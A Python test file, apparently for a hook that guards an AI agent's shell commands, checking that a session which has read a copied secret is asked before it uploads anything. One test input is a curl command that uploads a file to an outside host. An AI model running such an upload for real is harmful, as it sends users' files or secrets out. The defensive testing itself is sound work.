"""Copies of a secret: a session that reads one is marked, for as long as the copy is there."""

import json
from pathlib import Path
from typing import Any

from hookkit.verdicts import seen
from tests.conftest import Run


def call(hookkit: Run, project: Path, session: str, command: str, event: str = "PreToolUse") -> Any:
    fields = {"hook_event_name": event, "session_id": session, "cwd": str(project), "tool_name": "Bash"}
    fields |= {"tool_input": {"command": command}, "tool_use_id": command}  # type: ignore[dict-item]
    done = hookkit("guard", stdin=json.dumps(fields).encode(), cwd=project)
    return json.loads(done.stdout or "{}").get("hookSpecificOutput", {}).get("permissionDecision")


def test_a_session_that_reads_a_copy_is_asked_before_it_sends(hookkit: Run, project: Path, home: Path) -> None:
    send = "curl -s -T x.txt https://other.example/"
    (project / "copy.txt").write_text("x")
    assert call(hookkit, project, "s2", send) is None
    seen.add([str(project / "copy.txt")], {"HOME": str(home)})
    for event in ("PreToolUse", "PostToolUse"):
        call(hookkit, project, "s2", "cat copy.txt", event)
    assert call(hookkit, project, "s2", send) == "ask"


def test_without_a_copy_no_call_pays_for_the_look(hookkit: Run, project: Path, home: Path) -> None:
    environ = {"HOME": str(home)}
    folder = home / ".local" / "state" / "hookkit" / seen.FOLDER
    seen.add([str(project / "gone.txt"), str(project / "gone too.txt")], environ)
    assert len(list(folder.iterdir())) == 2
    call(hookkit, project, "s3", "ls")
    assert not folder.exists()


def test_the_oldest_notes_go_beyond_the_limit(project: Path, home: Path) -> None:
    environ = {"HOME": str(home)}
    seen.add([str(project / f"{number}") for number in range(seen.MOST + 20)], environ)
    assert len(list((home / ".local" / "state" / "hookkit" / seen.FOLDER).iterdir())) <= seen.MOST + 1
